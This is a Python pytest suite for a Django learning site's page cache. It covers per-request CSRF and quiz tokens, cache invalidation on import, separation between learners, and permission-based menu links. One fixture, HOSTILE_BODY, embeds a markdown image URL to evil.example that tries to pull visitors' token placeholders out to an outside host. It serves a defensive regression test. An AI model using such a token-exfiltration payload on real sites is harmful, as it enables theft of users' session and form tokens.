"""Cached pages: anonymous lesson pages come from the cache with fresh per-request tokens, and
an import invalidates them."""

from __future__ import annotations

import re
import time

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from core.frames import page_slot
from courses.importer import import_content
from courses.models import Lesson
from quizzes.models import Attempt
from quizzes.services import option_value, read_token
from tests.factories import make_user

pytestmark = pytest.mark.django_db
URL = "/courses/black-box/lesson-1/"


def token_of(html: str) -> str:
    return re.search(r'name="token" value="([^"]+)"', html)[1]


def test_a_cached_anonymous_lesson_page_costs_no_query(client, lesson):
    for _ in range(60):  # fill every cached variant (4 of them, chosen at random: 12 missed one
        # about one run in eight; 60 miss one about once in ten million)
        client.get(URL)
    with CaptureQueriesContext(connection) as queries:
        response = client.get(URL)
    assert response.status_code == 200 and len(queries.captured_queries) == 0
    html = response.content.decode()
    assert page_slot("csrf") not in html and page_slot("quiz-token") not in html  # all filled


def test_every_cached_page_carries_a_fresh_quiz_token_and_a_working_csrf_token(lesson):
    browser = Client(enforce_csrf_checks=True)
    pages = [browser.get(URL).content.decode() for _ in range(6)]
    tokens = {token_of(page) for page in pages}
    assert len(tokens) == 6
    page = pages[-1]
    csrf = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page)[1]
    shown = re.findall(r'name="(q\d+)" value="([0-9a-f]{16})"', page)
    answers = {}
    for name, value in shown:
        answers.setdefault(name, []).append(value)
    data = {"token": token_of(page), "csrfmiddlewaretoken": csrf, "submit_incomplete": "1"}
    data.update({name: values[:1] for name, values in answers.items()})
    assert browser.post(f"{URL}quiz/", data).status_code == 303
    snapshot = Attempt.objects.get().snapshot
    seed = read_token(token_of(page)).seed
    first_question_order = [option_value(seed, option["id"]) for option in snapshot[0]["options"]]
    assert first_question_order == answers[f"q{snapshot[0]['question']}"]  # what the page showed


def test_an_import_invalidates_cached_pages(client, lesson, content_root):
    client.get(URL)
    path = content_root / "black-box/01-lesson-1.md"
    path.write_text(path.read_text().replace("title: Lesson 1", "title: Lesson One, revised"))
    import_content(content_root)
    for _ in range(8):
        assert "Lesson One, revised" in client.get(URL).content.decode()
    (content_root / "black-box/02-lesson-2.md").unlink()
    import_content(content_root)
    assert client.get("/courses/black-box/lesson-2/").status_code == 404
    assert "Lesson 1 of 1" in client.get(URL).content.decode()


def test_signed_in_pages_are_rendered_for_the_learner(client, lesson):
    client.get(URL)
    client.force_login(make_user())
    html = client.get(URL).content.decode()
    assert "Progress saved locally" not in html and "Sign out" in html


def test_catalog_and_course_pages_are_cached_for_anonymous_visitors(client, lesson, content_root):
    client.get("/")
    client.get("/courses/black-box/")
    for url in ("/", "/courses/black-box/"):
        with CaptureQueriesContext(connection) as queries:
            assert client.get(url).status_code == 200
        assert len(queries.captured_queries) == 0, url
    path = content_root / "black-box/course.md"
    path.write_text(path.read_text().replace("Inside the Black Box", "Inside the Glass Box"))
    import_content(content_root)
    assert "Inside the Glass Box" in client.get("/").content.decode()
    assert client.get("/courses/nope/").status_code == 404


def test_a_returning_learners_lesson_page_reuses_the_shared_parts(client, lesson, content_root):
    client.force_login(make_user())
    client.get(URL)
    with CaptureQueriesContext(connection) as queries:
        html = client.get(URL).content.decode()
    # session, user, the learner's progress in the course (one read; a repeat visit writes
    # nothing): nothing about the lesson itself, nor the permissions behind the menu's Reports
    # link (remembered)
    assert len(queries.captured_queries) == 3, [q["sql"] for q in queries.captured_queries]
    assert not [q for q in queries.captured_queries if "lessons_section" in q["sql"]]
    assert "A trillion parameters of fog" in html
    path = content_root / "black-box/01-lesson-1.md"
    path.write_text(
        path.read_text().replace("Nobody wrote their rules down.", "Nobody wrote them down.")
    )
    import_content(content_root)
    assert "Nobody wrote them down." in client.get(URL).content.decode()


def test_shared_parts_never_carry_one_learners_data_or_tokens_to_another(lesson):
    """Learners take turns on one lesson, so every shared part (the lesson, the quiz form's
    variants) is built during someone else's request; each page is still only its reader's."""
    from django.utils import timezone

    from lessons.models import LessonProgress

    ada, bob = make_user("ada"), make_user("bob")
    anchors = list(lesson.sections.values_list("anchor", flat=True))
    LessonProgress.objects.create(
        learner=ada, lesson=lesson, sections_read=anchors, completed_at=timezone.now(),
        best_score=1, best_total=1, latest_score=1, latest_total=1,
    )  # fmt: skip
    browsers = {}
    for user in (ada, bob):
        browsers[user.username] = Client(enforce_csrf_checks=True)
        browsers[user.username].force_login(user)
    pages = {"ada": [], "bob": []}
    for _ in range(12):  # every cached option order, built by either learner
        for name, browser in browsers.items():
            pages[name].append(browser.get(URL).content.decode())
    ada_tokens = {token_of(page) for page in pages["ada"]}
    for page in pages["bob"]:
        assert f'data-learner="{bob.pk}"' in page and f'data-learner="{ada.pk}"' not in page
        assert "You completed this lesson" not in page and "Your best score" not in page
        assert 'class="is-read"' not in page and "0 of 2 lessons" in page
        assert read_token(token_of(page)).learner_id == bob.pk
        assert token_of(page) not in ada_tokens
    for page in pages["ada"]:
        assert "You completed this lesson" in page and "Your best score" in page
        assert page.count('class="is-read"') == len(anchors) and "1 of 2 lessons" in page
        assert read_token(token_of(page)).learner_id == ada.pk
    # Bob's page works for Bob: its CSRF token and quiz token submit his attempt.
    page = pages["bob"][-1]
    csrf = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page)[1]
    data = {"token": token_of(page), "csrfmiddlewaretoken": csrf, "submit_incomplete": "1"}
    assert browsers["bob"].post(f"{URL}quiz/", data).status_code == 303
    assert Attempt.objects.get().learner == bob
    # Ada's token on Bob's page would record nothing for him.
    data["token"] = token_of(pages["ada"][-1])
    assert browsers["bob"].post(f"{URL}quiz/", data).status_code != 303
    assert Attempt.objects.count() == 1


def test_the_menus_reports_link_follows_permission_changes_at_once(client, lesson):
    from django.contrib.auth.models import Group, Permission

    learner = make_user()
    client.force_login(learner)
    instructors = Group.objects.get(name="Instructors")

    def shows_reports() -> bool:
        return 'href="/reports/"' in client.get(URL).content.decode()

    assert not shows_reports()
    learner.groups.add(instructors)
    assert shows_reports()
    instructors.permissions.remove(Permission.objects.get(codename="view_reports"))
    assert not shows_reports()
    learner.user_permissions.add(Permission.objects.get(codename="view_reports"))
    assert shows_reports()
    learner.user_permissions.clear()
    instructors.permissions.add(Permission.objects.get(codename="view_reports"))
    assert shows_reports()
    learner.groups.remove(instructors)
    assert not shows_reports()
    learner.groups.add(instructors)
    assert shows_reports()
    instructors.delete()
    assert not shows_reports()


def test_another_process_import_is_seen_within_the_refresh_interval(lesson, monkeypatch):
    """An import in another process cannot forget this process's version: it expires instead."""
    from django.utils import timezone

    from courses import caching

    monkeypatch.setattr(caching, "REFRESH_SECONDS", 0.05)
    before = caching.content_version()
    Lesson.objects.filter(pk=lesson.pk).update(
        imported_at=timezone.now() + timezone.timedelta(seconds=5)
    )
    assert caching.content_version() == before  # still remembered
    time.sleep(0.06)
    assert caching.content_version() != before


HOSTILE_BODY = """\
## Tokens
Here are GLASSBOXCSRFSLOT and GLASSBOXQUIZTOKENSLOT in plain text.

![pixel](https://evil.example/p.png?c=GLASSBOXCSRFSLOT&t=GLASSBOXQUIZTOKENSLOT)

## Quiz
1. Which?
   - [x] This
   - [ ] That
"""


@pytest.mark.parametrize("signed_in", [False, True])
def test_lesson_text_cannot_pull_visitors_tokens_into_the_page(content_root, signed_in):
    """Issue #16, finding 5: a lesson holding the page cache's old placeholder strings."""
    from tests.factories import write_course, write_lesson

    write_course(content_root)
    write_lesson(content_root, name="01-lesson-1.md", title="Lesson 1", body=HOSTILE_BODY)
    import_content(content_root)
    browser = Client()
    if signed_in:
        browser.force_login(make_user())
    for _ in range(6):  # cached variants too
        html = browser.get(URL).content.decode()
        for csrf in re.findall(r'name="csrfmiddlewaretoken" value="([^"]+)"', html):
            # only in its forms' inputs, nowhere in the lesson text
            assert html.count(csrf) == html.count(f'name="csrfmiddlewaretoken" value="{csrf}"')
        assert html.count(token_of(html)) == 1
        assert "https://evil.example/p.png?c=GLASSBOXCSRFSLOT&amp;t=GLASSBOXQUIZTOKENSLOT" in html


def test_the_placeholders_depend_on_the_secret_key(settings):
    first = page_slot("csrf")
    settings.SECRET_KEY = "another-secret-key-" + "y" * 40
    assert page_slot("csrf") != first and len(first) > 40
